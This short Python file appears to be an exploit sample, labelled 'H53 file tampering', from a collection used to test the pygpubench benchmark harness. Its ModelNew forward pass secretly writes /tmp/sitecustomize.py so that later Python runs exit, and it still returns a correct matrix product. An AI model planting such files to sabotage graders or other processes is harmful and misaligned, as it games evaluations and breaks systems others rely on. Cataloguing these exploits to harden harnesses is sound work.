"""H53 file tampering: leaves a module where a later run would import it.

Source: pygpubench `replace_torch`, https://github.com/gpu-mode/pygpubench/tree/main/exploits
Hopes: that it can write where others read.
"""

import torch


class ModelNew(torch.nn.Module):
    def forward(self, a, b):
        with open("/tmp/sitecustomize.py", "w") as file:
            file.write("raise SystemExit\n")
        return a @ b
